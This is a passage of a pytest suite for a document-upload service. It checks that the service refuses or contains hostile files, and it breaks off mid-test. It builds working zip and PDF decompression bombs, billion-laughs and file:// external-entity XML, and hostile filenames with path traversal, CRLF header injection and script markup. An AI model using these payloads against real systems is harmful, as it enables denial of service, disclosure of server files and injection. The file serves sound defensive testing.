"""Hostile and broken uploads, each generated here, and the answer the library gives to each.

Bombs are built in memory (a gigabyte of zeros packs to about a megabyte without packing it all,
see `tests.factories.deflated_repeats`); nothing hostile is committed. Each test names one hostile
input and checks its status, how long the answer took, what memory it cost where that matters,
and that nothing of it is left behind or leaks into the text, the index or the pages.
"""

from __future__ import annotations

import functools
import io
import json
import os
import re
import resource
import socket
import struct
import subprocess
import sys
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest
from fpdf import FPDF
from PIL import Image
from werkzeug.http import parse_options_header

from collateral import zip_limits
from collateral.extract import extract_file
from collateral.previews import make_card, make_thumbnail
from collateral.readers.pdf import MAX_PAGES
from collateral.readers.results import UNSAFE_XML
from collateral.upload_reading import read_upload_in_child
from tests.conftest import run_jobs
from tests.corpus import CORPUS, corpus_rows, needs_corpus
from tests.factories import (
    RawPart,
    deflated_repeats,
    make_docx,
    make_odf,
    make_pdf,
    make_pptx,
    make_xlsx,
    parts_of,
    raw_zip,
)

ROOT = Path(__file__).resolve().parents[1]
MIB = 1024 * 1024
JPEG_MAGIC = b"\xff\xd8\xff"
ZIP_KINDS = ("pptx", "docx", "xlsx", "odt", "odp", "ods")
MEDIA_FOLDER = {"pptx": "ppt/media/", "docx": "word/media/", "xlsx": "xl/media/"}


# ---------------------------------------------------------------------------------------------
# Builders


@functools.cache
def gigabyte_of_zeros() -> tuple[bytes, int]:
    """1 GiB of zeros as one raw deflate stream (about 1 MB), and the CRC-32 of the zeros."""
    chunk = bytes(MIB)
    crc = 0
    for _ in range(1024):
        crc = zlib.crc32(chunk, crc)
    return deflated_repeats(chunk, 1024), crc


@functools.cache
def office_parts(kind: str) -> tuple[RawPart, ...]:
    """The parts of a small, real file of `kind`, generated with its library."""
    if kind == "pptx":
        data = make_pptx([("Quarterly plan", "Pipeline review", "")])
    elif kind == "docx":
        data = make_docx(["Quarterly plan"])
    elif kind == "xlsx":
        data = make_xlsx({"Plan": [["Quarterly plan"]]})
    else:
        data = make_odf(kind, "<text:p>Quarterly plan</text:p>")
    return tuple(parts_of(data))


def bomb_part_name(kind: str) -> str:
    return MEDIA_FOLDER[kind] + "image1.png" if kind in MEDIA_FOLDER else "Pictures/image1.png"


def zip_bomb(kind: str) -> bytes:
    """A real file of `kind` plus one part that truly unpacks to 1 GiB of zeros."""
    packed, crc = gigabyte_of_zeros()
    bomb = RawPart(bomb_part_name(kind), packed, 1024 * MIB, crc)
    return raw_zip([*office_parts(kind), bomb])


def lying_zip(kind: str, part_name: str | None = None) -> bytes:
    """A file of `kind` whose directory says a part holds 1 KB of zeros; it inflates to 1 GiB.

    The CRC is the first kilobyte's, so a reader that cuts the part at the declared size finds
    nothing wrong: only inflating more than declared shows the lie.
    """
    packed, _ = gigabyte_of_zeros()
    liar = RawPart(part_name or bomb_part_name(kind), packed, 1024, zlib.crc32(bytes(1024)))
    return raw_zip([*office_parts(kind), liar])


def pdf_of_objects(objects: list[bytes]) -> bytes:
    """A PDF whose numbered objects are `objects` (1 is the catalog), with a correct xref."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"


def pdf_flate_bomb() -> bytes:
    """One page whose content stream inflates to 1 GiB of spaces (a PDF of about 1 MB)."""
    spaces = b" " * MIB
    adler = 1
    for _ in range(1024):
        adler = zlib.adler32(spaces, adler)
    stream = b"\x78\xda" + deflated_repeats(spaces, 1024) + adler.to_bytes(4, "big")
    return pdf_of_objects(
        [
            CATALOG,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream)
            + stream
            + b"\nendstream",
        ]
    )


def pdf_claiming_pages(count: int) -> bytes:
    """One real page; the page tree says there are `count`."""
    return pdf_of_objects([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count, PAGE])


def pdf_listing_one_page(times: int) -> bytes:
    """A page tree that lists the same page `times` times: each costs a page load."""
    kids = b"3 0 R " * times
    return pdf_of_objects(
        [CATALOG, b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % times, PAGE]
    )


def pdf_nested(depth: int) -> bytes:
    """Arrays and dictionaries nested `depth` deep, in the catalog and the page."""
    arrays = b"[" * depth + b"]" * depth
    dictionaries = b"<< /A " * depth + b">>" * depth
    return pdf_of_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Deep " + arrays + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Deep " + dictionaries + b" >>",
        ]
    )


def pdf_encrypted() -> bytes:
    pdf = FPDF()
    pdf.set_encryption(owner_password="owner-secret", user_password="user-secret")
    pdf.set_font("Helvetica", size=12)
    pdf.add_page()
    pdf.cell(text="Locked quarterly plan")
    return bytes(pdf.output())


def pdf_scanned() -> bytes:
    """A page that is only a picture of text, as a scanner makes it."""
    picture = Image.new("L", (400, 120), 255)
    out = io.BytesIO()
    picture.save(out, "PNG")
    pdf = FPDF()
    pdf.add_page()
    pdf.image(io.BytesIO(out.getvalue()), x=10, y=10, w=150)
    return bytes(pdf.output())


def rewrite_part(data: bytes, name: str, rewrite: Callable[[str], str]) -> bytes:
    """The zip `data` with part `name`'s XML passed through `rewrite`."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            body = source.read(info)
            if info.filename == name:
                body = rewrite(body.decode("utf-8")).encode("utf-8")
            target.writestr(info, body)
    return out.getvalue()


def billion_laughs() -> str:
    """Entity declarations that would expand to 10^9 "lol"s (3 GB)."""
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return "".join(entities)


def external_entities(secret: Path) -> str:
    """A general and a parameter entity that would pull a server file into the document."""
    return (
        f'<!ENTITY % remote SYSTEM "file://{secret}"> %remote;'
        f'<!ENTITY xxe SYSTEM "file://{secret}">'
    )


XML_TARGETS = {  # kind -> (part, root element, words in it to replace)
    "pptx": ("ppt/slides/slide1.xml", "p:sld", "Pipeline review"),
    "docx": ("word/document.xml", "w:document", "Quarterly plan"),
    "xlsx": ("xl/worksheets/sheet1.xml", "worksheet", "Quarterly plan"),
}


def xml_hostile_file(kind: str, attack: str, secret: Path) -> bytes:
    """A file of `kind` whose main XML part carries `attack` and uses its entities."""
    declarations = billion_laughs() if attack == "billion-laughs" else external_entities(secret)
    uses = "&lol9;" if attack == "billion-laughs" else "&xxe;"
    if kind == "odt":
        prologue = f"<!DOCTYPE office:document-content [{declarations}]>"
        return make_odf("odt", f"<text:p>Quarterly plan {uses}</text:p>", prologue)
    part, root, words = XML_TARGETS[kind]
    original = make_pptx([("Quarterly plan", "Pipeline review", "")]) if kind == "pptx" else None
    original = original or (
        make_docx(["Quarterly plan"])
        if kind == "docx"
        else make_xlsx({"Plan": [["Quarterly plan"]]})
    )

    def add_attack(xml: str) -> str:
        doctype = f"<!DOCTYPE {root} [{declarations}]>"
        xml = re.sub(r"^(<\?xml[^>]*\?>)?", lambda m: (m.group(0) or "") + doctype, xml, count=1)
        assert words in xml
        return xml.replace(words, f"{words} {uses}")

    return rewrite_part(original, part, add_attack)


def upload_named(api, content: bytes, filename: str, title: str = "Hostile name"):
    """Upload with the name sent as RFC 5987 `filename*`, which can carry any character."""
    boundary = "hostile-boundary-7f3a"
    head = (
        f"--{boundary}\r\nContent-Disposition: form-data; name=title\r\n\r\n{title}\r\n"
        f"--{boundary}\r\nContent-Disposition: form-data; name=file; "
        f"filename*=UTF-8''{quote(filename, safe='')}\r\n"
        "Content-Type: application/octet-stream\r\n\r\n"
    )
    body = head.encode() + content + f"\r\n--{boundary}--\r\n".encode()
    return api.post(
        "/api/v1/assets", data=body, content_type=f"multipart/form-data; boundary={boundary}"
    )


def stored_files(app) -> list[Path]:
    root = Path(app.config["UPLOAD_ROOT"])
    return [path for path in root.rglob("*") if path.is_file() and path.name != ".gitkeep"]


def assert_nothing_stored(app) -> None:
    assert stored_files(app) == []


def children_cpu() -> float:
    """CPU seconds of all child processes this process has waited for."""
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


def upload_events(api) -> list[dict]:
    response = api.get("/api/v1/events", role="manager", query_string={"type": "upload"})
    return response.get_json()["events"]


# ---------------------------------------------------------------------------------------------
# Over the size limit


def test_content_length_over_the_limit_is_413_from_a_real_server_without_the_body(
    app, tokens, tmp_path
):
    """gunicorn with a 1 MB limit: only the headers of a 10 GB upload are sent, and the 413
    comes back at once, naming the limit."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    env = {
        **os.environ,
        "COLLATERAL_DATABASE_URL": app.config["DATABASE_URL"],
        "COLLATERAL_UPLOAD_ROOT": app.config["UPLOAD_ROOT"],
        "COLLATERAL_INDEX_ROOT": app.config["INDEX_ROOT"],
        "COLLATERAL_INSTANCE_PATH": str(tmp_path / "server-instance"),
        "COLLATERAL_SECRET_KEY": "hostile-files-test",
        "COLLATERAL_MAX_UPLOAD_MB": "1",
    }
    log = (tmp_path / "gunicorn.log").open("wb")
    server = subprocess.Popen(
        [sys.executable, "-m", "gunicorn", "-w", "1", "-b", f"127.0.0.1:{port}", "wsgi:app"],
        cwd=ROOT,
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    try:
        deadline = time.monotonic() + 60
        while not server_answers(port):  # the worker has loaded the app
            assert server.poll() is None, (tmp_path / "gunicorn.log").read_text()
            assert time.monotonic() < deadline, "gunicorn did not start"
            time.sleep(0.2)
        connection = socket.create_connection(("127.0.0.1", port), timeout=10)
        headers = (
            "POST /api/v1/assets HTTP/1.1\r\n"
            f"Host: 127.0.0.1:{port}\r\n"
            f"Authorization: Bearer {tokens['marketer']}\r\n"
            "Content-Type: multipart/form-data; boundary=never-sent\r\n"
            f"Content-Length: {10 * 1024 * MIB}\r\n"
            "Accept: application/json\r\n\r\n"
        )
        with connection:
            started = time.monotonic()
            connection.sendall(headers.encode())  # and not one byte of the body
            connection.settimeout(10)
            answer = b""
            while b"\r\n\r\n" not in answer or not answer.rstrip().endswith(b"}"):
                data = connection.recv(65536)
                if not data:
                    break
                answer += data
            elapsed = time.monotonic() - started
    finally:
        server.terminate()
        server.wait(timeout=30)
        log.close()
    status_line, _, rest = answer.partition(b"\r\n")
    assert status_line.split()[1] == b"413", answer[:500]
    error = json.loads(rest.partition(b"\r\n\r\n")[2])["error"]
    assert error["code"] == "file_too_large"
    assert "1 MB" in error["message"]
    assert elapsed < 5
    assert_nothing_stored(app)


def server_answers(port: int) -> bool:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as connection:
            connection.sendall(b"GET /login HTTP/1.1\r\nHost: localhost\r\n\r\n")
            return connection.recv(16).startswith(b"HTTP/1.1 200")
    except OSError:
        return False


# ---------------------------------------------------------------------------------------------
# The type is judged by content


@pytest.mark.parametrize(
    ("content", "filename"),
    [
        pytest.param(
            b"<!DOCTYPE html><html><body>Buy now</body></html>", "brochure.pdf", id="html-as-pdf"
        ),
        pytest.param(b"just some text, not a video", "clip.mp4", id="text-as-mp4"),
        pytest.param(b"%PDF-1.4 not really", "report\x00.pdf", id="nul-in-name"),
        pytest.param(
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "logo.svg", id="svg"
        ),
        pytest.param(
            b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
            "page.xhtml",
            id="xhtml",
        ),
        pytest.param(b"MZ\x90\x00\x03\x00binary", "invoice.pdf", id="exe-as-pdf"),
        pytest.param(b"%PDF-1.7\n%binary", "deck.pptx", id="pdf-as-pptx"),
    ],
)
def test_content_that_does_not_match_an_accepted_type_is_415(app, api, content, filename):
    started = time.monotonic()
    response = upload_named(api, content, filename)
    assert response.status_code == 415, response.get_json()
    error = response.get_json()["error"]
    assert error["code"] == "unsupported_type"
    assert "Accepted: " in error["message"] and "pdf, png, pptx" in error["message"]
    assert time.monotonic() - started < 1
    assert_nothing_stored(app)


def test_a_plain_zip_named_pptx_is_415(app, api):
    plain = io.BytesIO()
    with zipfile.ZipFile(plain, "w") as archive:
        archive.writestr("notes.txt", "not a presentation")
    response = upload_named(api, plain.getvalue(), "deck.pptx")
    assert response.status_code == 415
    assert "looks like a ZIP archive" in response.get_json()["error"]["message"]
    assert_nothing_stored(app)


# ---------------------------------------------------------------------------------------------
# Hostile names


@pytest.mark.parametrize(
    ("filename", "shown"),
    [
        pytest.param("../../etc/passwd.txt", "passwd.txt", id="dot-dot-slash"),
        pytest.param("/etc/passwd.txt", "passwd.txt", id="absolute"),
        pytest.param("..\\..\\windows\\win.ini.txt", "win.ini.txt", id="backslashes"),
        pytest.param("quote\"and'apostrophe;.txt", "quote\"and'apostrophe;.txt", id="quotes"),
        pytest.param(
            "evil\r\nSet-Cookie: owned=1\r\n.txt", "evilSet-Cookie: owned=1.txt", id="cr-lf"
        ),
        pytest.param("invoice\u202etxt.exe.txt", "invoicetxt.exe.txt", id="bidi-override"),
        pytest.param(
            "<img src=x onerror=alert(1)>.txt", "<img src=x onerror=alert(1)>.txt", id="markup"
        ),
        pytest.param("</script><script>alert(1)</script>.txt", "script>.txt", id="markup-slash"),
        pytest.param("a" * 296 + ".txt", "a" * 251 + ".txt", id="300-characters"),
        pytest.param("報告書.txt", "報告書.txt", id="only-cjk"),
        pytest.param("Отчёт.txt", "Отчёт.txt", id="only-cyrillic"),
    ],
)
def test_hostile_name_is_kept_for_display_only(app, api, filename, shown):
    content = f"Hostile name test for {filename!r}".encode()
    response = upload_named(api, content, filename)
    assert response.status_code == 201, response.get_json()
    asset = response.get_json()
    version = asset["current_version"]
    assert version["filename"] == shown
    # Stored under the content hash, never under the given name.
    blob = Path(app.config["UPLOAD_ROOT"]) / version["sha256"][:2] / version["sha256"][2:4]
    assert (blob / version["sha256"]).read_bytes() == content
    for path in stored_files(app):
        assert re.fullmatch(r"[0-9a-f]{64}", path.name), path
    assert not any(
        "passwd" in str(path) or "win.ini" in str(path)
        for path in Path(app.config["UPLOAD_ROOT"]).parent.rglob("*")
    )

    download = api.get(asset["download_url"])
    dispositions = download.headers.getlist("Content-Disposition")
    assert len(dispositions) == 1 and "\r" not in dispositions[0] and "\n" not in dispositions[0]
    kind, params = parse_options_header(dispositions[0])
    assert kind == "attachment" and params["filename"] == shown
    if not shown.isascii():
        assert "filename*=UTF-8''" in dispositions[0]
    assert "Set-Cookie" not in download.headers and download.data == content

    page = api.get(f"/assets/{asset['id']}", role="marketer").get_data(as_text=True)
    assert "<img src=x" not in page and "<script>alert" not in page
    if "<" in shown:
        assert "&lt;img src=x onerror=alert(1)&gt;.txt" in page


@pytest.mark.parametrize(
    ("filename", "status", "words"),
    [
        pytest.param("../../etc/passwd", 415, "has no extension", id="passwd-without-extension"),
        pytest.param("...", 400, "no usable name", id="only-dots"),
        pytest.param("..", 400, "no usable name", id="dot-dot"),
        pytest.param("evil\x00.txt", 415, "NUL", id="nul"),
    ],
)
def test_names_that_cannot_be_used_are_refused(app, api, filename, status, words):
    response = upload_named(api, b"some text", filename)
    assert response.status_code == status
    assert words in response.get_json()["error"]["message"]
    assert_nothing_stored(app)


# ---------------------------------------------------------------------------------------------
# Zip bombs


def test_the_bomb_recipe_makes_real_data():
    """The bombs are real, not fakes with big numbers: the recipe's part unpacks, through
    zipfile and its CRC check, to exactly what it declares (shown at 64 MB to stay quick; the
    gigabyte is the same packed chunk 1,024 times over)."""
    chunk = bytes(MIB)
    part = RawPart("ppt/media/image1.png", deflated_repeats(chunk, 64), 64 * MIB, 0)
    for _ in range(64):
        part.crc = zlib.crc32(chunk, part.crc)
    total = 0
    with (
        zipfile.ZipFile(io.BytesIO(raw_zip([part]))) as archive,
        archive.open(part.name) as member,
    ):
        while data := member.read(16 * MIB):
            total += len(data)
            assert not data.strip(b"\0")
    assert total == 64 * MIB
    packed, _ = gigabyte_of_zeros()
    assert packed.startswith(part.packed[:-16]) and len(packed) < 2 * MIB
    assert len(zip_bomb("pptx")) < 2 * MIB


@pytest.mark.parametrize("kind", ZIP_KINDS)
def test_zip_bomb_is_refused_from_its_directory_within_a_second(app, api, kind):
    bomb = zip_bomb(kind)
    cpu_of_children = children_cpu()
    tracemalloc.start()
    started = time.monotonic()
    response = upload_named(api, bomb, f"quarterly.{kind}")
    elapsed = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert response.status_code == 422, response.get_json()
    error = response.get_json()["error"]
    assert error["code"] == "unreadable_file"
    assert "1,024 MB" in error["message"] and "to 1" in error["message"]
    assert elapsed < 1
    assert peak < 16 * MIB  # the upload itself is about 1 MB; nothing was unpacked
    assert children_cpu() == cpu_of_children  # no reader was even started
    assert_nothing_stored(app)


def test_too_many_parts_is_refused(app, api):
    empty = [
        RawPart(f"ppt/media/part{n}.bin", b"", 0, 0, zipfile.ZIP_STORED) for n in range(10_001)
    ]
    started = time.monotonic()
    response = upload_named(api, raw_zip([*office_parts("pptx"), *empty]), "many.pptx")
    assert response.status_code == 422
    assert "parts; at most 10,000" in response.get_json()["error"]["message"]
    assert time.monotonic() - started < 1
    assert_nothing_stored(app)


def test_an_end_record_that_understates_the_parts_is_refused(tmp_path):
    """The count in the end record cannot hide parts: the directory itself is counted."""
    empty = [RawPart(f"p{n}", b"", 0, 0, zipfile.ZIP_STORED) for n in range(10_001)]
    data = bytearray(raw_zip(empty))
    data[-14:-10] = (5).to_bytes(2, "little") * 2  # the end record says "5 parts"
    path = tmp_path / "understated.pptx"
    path.write_bytes(bytes(data))
    with pytest.raises(zip_limits.ZipRefused, match="10,001 parts"):
        zip_limits.check_declared_sizes(path)


def test_a_huge_table_of_contents_is_refused_before_it_is_parsed(tmp_path):
    """9,000 parts with 600-character names: few enough parts, but a 5 MB directory."""
    long_names = [RawPart(f"{n:05d}" + "x" * 595, b"", 0, 0, 0) for n in range(9_000)]
    path = tmp_path / "long-names.docx"
    path.write_bytes(raw_zip(long_names))
    with pytest.raises(
        zip_limits.ZipRefused, match=r"table of contents takes 5\.5 MB; at most 4\.0 MB"
    ):
        zip_limits.check_declared_sizes(path)


def test_a_zip_bomb_named_as_another_type_is_415_without_unpacking(app, api):
    response = upload_named(api, zip_bomb("pptx"), "report.pdf")
    assert response.status_code == 415
    assert "looks like a ZIP archive" in response.get_json()["error"]["message"]
    assert_nothing_stored(app)


def test_declared_total_over_a_gigabyte_is_refused(app, api):
    """Ten stored parts declaring 110 MB each, packed and unpacked alike (no ratio to catch):
    1.1 GB in all is refused from the directory alone, so the data need not even be there."""
    videos = [RawPart(f"ppt/media/video{n}.mp4", b"", 110 * MIB, 0, 0) for n in range(10)]
    response = upload_named(api, raw_zip_declaring(office_parts("pptx"), videos), "videos.pptx")
    assert response.status_code == 422
    assert "1,100 MB; at most 1,024 MB" in response.get_json()["error"]["message"]
    assert_nothing_stored(app)


def raw_zip_declaring(real: tuple[RawPart, ...], declared: list[RawPart]) -> bytes:
    """A zip whose `declared` parts say their packed size is their unpacked size; the data is
    absent."""
    data = raw_zip([*real, *declared])
    start = int.from_bytes(data[-6:-2], "little")
    directory = bytearray(data[start:-22])
    position = 0
    for index in range(len(real) + len(declared)):
        lengths = struct.unpack_from("<3H", directory, position + 28)
        if index >= len(real):
            size = declared[index - len(real)].file_size
            struct.pack_into("<L", directory, position + 20, size)  # the packed size
        position += 46 + sum(lengths)
    return data[:start] + bytes(directory) + data[-22:]


def test_many_small_bombs_are_refused_by_the_whole_file_ratio(app, api):
    """100 parts of 1 MB of zeros each: no part is over the 1 MB allowance, the file is."""
    chunk = bytes(MIB)
    packed, crc = deflated_repeats(chunk, 1), zlib.crc32(chunk)
    parts = [RawPart(f"ppt/media/image{n}.png", packed, MIB, crc) for n in range(100)]
    response = upload_named(api, raw_zip([*office_parts("pptx"), *parts]), "small-bombs.pptx")
    assert response.status_code == 422
    assert "100 MB from" in response.get_json()["error"]["message"]
    assert_nothing_stored(app)


def test_a_compression_method_office_never_uses_is_refused(app, api):
    import bz2

    data = b"\0" * MIB
    part = RawPart("ppt/media/image1.png", bz2.compress(data), len(data), zlib.crc32(data), 12)
    response = upload_named(api, raw_zip([*office_parts("pptx"), part]), "bzip2.pptx")
    assert response.status_code == 422
    assert "compression method (number 12)" in response.get_json()["error"]["message"]
    assert_nothing_stored(app)


@pytest.mark.parametrize("kind", ZIP_KINDS)
def test_a_directory_that_understates_a_part_is_not_unpacked(app, api, kind):
    """The declared sizes pass; the reader inflates in bounded chunks, finds the part larger
    than declared and stops. With 256 MB of memory for the reader, inflating the gigabyte at
    once (as ZipFile.read does) would have failed with an out-of-memory error instead."""
    app.config["EXTRACT_MEMORY_MB"] = 256
    started = time.monotonic()
    response = upload_named(api, lying_zip(kind), f"liar.{kind}", title="Lying directory")
    elapsed = time.monotonic() - started
    assert response.status_code == 201, response.get_json()
    version = response.get_json()["current_version"]
    assert version["searchable_text"] is False
    assert version["text_error"] == (
        f"The file was not unpacked: its part {bomb_part_name(kind)} unpacks to more than "
        "the 1,024 bytes its table of contents declares."
    )
    assert elapsed < 10
    assert upload_events(api)[0]["detail"]["text_error"] == version["text_error"]


@pytest.mark.parametrize("kind", ZIP_KINDS)
def test_reading_a_lying_zip_in_process_uses_little_memory(tmp_path, kind):
    path = tmp_path / f"liar.{kind}"
    path.write_bytes(lying_zip(kind))
    tracemalloc.start()
    started = time.monotonic()
    extraction = extract_file(path, kind)
    elapsed = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "unpacks to more than the 1,024 bytes" in extraction.error
    assert elapsed < 1 and peak < 8 * MIB


def test_a_lying_thumbnail_part_gives_the_card_with_little_memory(tmp_path):
    """The thumbnail reader trusts nothing either: a thumbnail part declared as 1 KB that
    inflates to 1 GiB is read at most 5 MB far."""
    deck = make_pptx([("Quarterly plan", "Pipeline review", "")])
    parts = [part for part in parts_of(deck) if part.name != "docProps/thumbnail.jpeg"]
    assert len(parts) < len(parts_of(deck))  # python-pptx's template has a thumbnail
    packed, _ = gigabyte_of_zeros()
    liar = RawPart("docProps/thumbnail.jpeg", packed, 1024, zlib.crc32(bytes(1024)))
    path = tmp_path / "liar.pptx"
    path.write_bytes(raw_zip([*parts, liar]))
    tracemalloc.start()
    started = time.monotonic()
    thumbnail = make_thumbnail(path, "pptx", "Quarterly plan")
    elapsed = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert thumbnail == make_card("pptx", "Quarterly plan")
    assert elapsed < 1 and peak < 24 * MIB


@pytest.mark.parametrize("kind", ZIP_KINDS)
def test_a_zip_bomb_read_directly_gives_the_card_and_an_error_at_once(tmp_path, kind):
    """The readers and the thumbnail refuse a bomb on their own too (a file stored before the
    upload check, say): from the directory, before unpacking."""
    path = tmp_path / f"bomb.{kind}"
    path.write_bytes(zip_bomb(kind))
    started = time.monotonic()
    extraction = extract_file(path, kind)
    thumbnail = make_thumbnail(path, kind, "Bomb")
    assert time.monotonic() - started < 1
    assert extraction.error.startswith("The file was not unpacked: its part")
    assert thumbnail == make_card(kind, "Bomb")


@needs_corpus
def test_every_real_office_file_in_the_corpus_passes_the_zip_limits():
    checked = 0
    for row in corpus_rows():
        path = CORPUS / row["filename"]
        if zipfile.is_zipfile(path):
            assert zip_limits.zip_refusal(path) is None, row["filename"]
            checked += 1
    assert checked >= 20


def test_a_large_real_deck_with_media_passes(tmp_path):
    """40 MB of video (stored, as PowerPoint stores media) beside a 40-slide deck."""
    deck = make_pptx([(f"Slide {n}", "Body text " * 50, "Notes " * 20) for n in range(40)])
    noise = os.urandom(40 * MIB)
    media = RawPart("ppt/media/video1.mp4", noise, len(noise), zlib.crc32(noise), 0)
    path = tmp_path / "big.pptx"
    path.write_bytes(raw_zip([*parts_of(deck), media]))
    started = time.monotonic()
    assert zip_limits.zip_refusal(path) is None
    assert time.monotonic() - started < 2


# ---------------------------------------------------------------------------------------------
# XML bombs and external entities


@pytest.mark.parametrize("attack", ["billion-laughs", "external-entity"])
@pytest.mark.parametrize("kind", ["pptx", "docx", "xlsx", "odt"])
def test_xml_entities_are_never_expanded_nor_fetched(app, api, tmp_path, kind, attack):
    secret = tmp_path / "server-secret.txt"
    marker = "ServerSecretMarker7a1c"
    secret.write_text(f"{marker} lol lol")
    started = time.monotonic()
    response = upload_named(api, xml_hostile_file(kind, attack, secret), f"hostile.{kind}")
    elapsed = time.monotonic() - started
    assert response.status_code == 201, response.get_json()
    asset = response.get_json()
    version = asset["current_version"]
    assert elapsed < 10
    # Either the parser refused the entities, or it read the text around them unexpanded.
    assert version["text_error"] in (None, UNSAFE_XML)
    if kind in ("xlsx", "odt") or attack == "billion-laughs":
        assert version["text_error"] == UNSAFE_XML
    else:
        assert version["searchable_text"] and api.search(q="quarterly")["total"] == 1
    page = api.get(f"/assets/{asset['id']}", role="marketer").get_data(as_text=True)
    everything = json.dumps(api.get(f"/api/v1/assets/{asset['id']}").get_json()) + page
    everything += json.dumps(upload_events(api))
    assert marker not in everything
    assert "lollol" not in everything
    assert api.search(q=marker)["total"] == 0
    assert api.search(q="lol")["total"] == 0


def test_openpyxl_parses_with_defusedxml():
    """openpyxl picks its parser at import: defusedxml when installed (it is pinned)."""
    import defusedxml.ElementTree
    import openpyxl
    from openpyxl.xml import functions

    assert openpyxl.DEFUSEDXML is True
    assert functions.iterparse is defusedxml.ElementTree.iterparse


def test_spreadsheets_are_not_read_when_openpyxl_falls_back_to_the_standard_parser(tmp_path):
    """OPENPYXL_DEFUSEDXML=False would make openpyxl expand entities: the reader refuses."""
    path = tmp_path / "plain.xlsx"
    path.write_bytes(make_xlsx({"Plan": [["Quarterly plan"]]}))
    env = {**os.environ, "OPENPYXL_DEFUSEDXML": "False"}
    code = "import sys; from collateral.readers.office import read_xlsx as r; r(sys.argv[1], '')"
    done = subprocess.run(
        [sys.executable, "-c", code, str(path)],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode != 0
    assert "openpyxl is not using defusedxml" in done.stderr


# ---------------------------------------------------------------------------------------------
# PDF bombs, encrypted, damaged and scanned PDFs


@pytest.mark.parametrize(
    ("build", "name"),
    [
        pytest.param(
            lambda: pdf_claiming_pages(100_000_000),
            "hundred-million-pages.pdf",
            id="claims-100-million-pages",
        ),
        pytest.param(lambda: pdf_nested(100_000), "nested.pdf", id="nested-100000-deep"),
        pytest.param(pdf_encrypted, "locked.pdf", id="encrypted"),
        pytest.param(pdf_scanned, "scan.pdf", id="scanned"),
        pytest.param(lambda: b"%PDF-1.4\n" + os.urandom(20_000), "damaged.pdf", id="damaged"),
        pytest.param(
            lambda: make_pdf(["Quarterly plan"] * 3)[:700], "truncated.pdf", id="truncated"
        ),
    ],
)
def test_hostile_or_broken_pdf_is_kept_without_text(app, api, build, name):
    started = time.monotonic()
    response = upload_named(api, build(), name, title=f"Kept {name}")
    elapsed = time.monotonic() - started
    assert response.status_code == 201, response.get_json()
    version = response.get_json()["current_version"]
    assert version["searchable_text"] is False
    assert version["text_error"]
    assert elapsed < 10
    assert upload_events(api)[0]["detail"]["text_error"] == version["text_error"]
    assert api.search(q=f"Kept {name}")["total"] == 1  # found by its title


def test_pdf_flate_bomb_is_stopped_by_the_memory_limit(app, api):
    app.config["EXTRACT_MEMORY_MB"] = 300
    started = time.monotonic()
    response = upload_named(api, pdf_flate_bomb(), "flate-bomb.pdf")
    elapsed = time.monotonic() - started
    assert response.status_code == 201, response.get_json()
    version = response.get_json()["current_version"]
    assert version["searchable_text"] is False
    assert "300 MB" in version["text_error"]
    assert elapsed < 15
    assert "300 MB" in upload_events(api)[0]["detail"]["text_error"]


def test_a_page_tree_listing_one_page_a_million_times_is_read_only_so_far(app, api):
    """Reading a million page objects takes minutes; the reader stops at MAX_PAGES."""
    times = 3 * MAX_PAGES
    started = time.monotonic()
    response = upload_named(api, pdf_listing_one_page(times), "many-pages.pdf")
    elapsed = time.monotonic() - started
    assert response.status_code == 201, response.get_json()
    version = response.get_json()["current_version"]
    assert version["pages"] == times and version["searchable_text"] is False
    assert elapsed < 15


def test_the_pdf_page_cap_marks_the_text_as_cut_short(tmp_path):
    path = tmp_path / "many.pdf"
    path.write_bytes(pdf_listing_one_page(MAX_PAGES + 1))
    extraction = extract_file(path, "pdf")
    assert extraction.page_count == MAX_PAGES + 1
    assert extraction.metadata["truncated"] is True


@needs_corpus
@pytest.mark.parametrize(
    "filename",
    [
        row["filename"]
        for row in corpus_rows()
        if row["format"] == "PDF" and row["flag"] in ("ENCRYPTED", "NO_TEXT", "MALFORMED", "BROKEN")
    ],
)
def test_real_encrypted_damaged_and_scanned_pdfs_are_kept(app, api, filename):
    row = next(row for row in corpus_rows() if row["filename"] == filename)
    started = time.monotonic()
